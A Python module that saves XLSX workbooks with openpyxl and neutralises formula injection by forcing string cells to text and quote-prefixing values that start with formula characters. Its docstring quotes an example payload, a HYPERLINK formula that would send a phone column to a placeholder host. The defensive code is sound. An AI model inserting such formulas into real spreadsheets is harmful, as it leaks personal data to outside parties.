"""Saving XLSX workbooks: every writer in GeoGrid saves through here, so text stays text. openpyxl stores a
string that starts with "=" as a formula; a name typed in as =HYPERLINK("http://x/?"&I2) would open in Excel
as a live link carrying the phone column. Here every str cell is written as a text cell (never a formula),
and text that Excel or LibreOffice would read as a formula when edited (= + - @, tab, CR) gets the quote-prefix
style, as a leading apostrophe typed in Excel does. No GeoGrid workbook holds a formula."""
import io
from pathlib import Path

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def save_workbook(book: Workbook, target: Path | io.BytesIO) -> None:
    """Write `book` to a path or buffer with every string cell as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if cell.value.startswith(FORMULA_STARTS):
                        cell.quotePrefix = True
    book.save(target)


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook as XLSX bytes (save_workbook into memory)."""
    buffer = io.BytesIO()
    save_workbook(book, buffer)
    return buffer.getvalue()
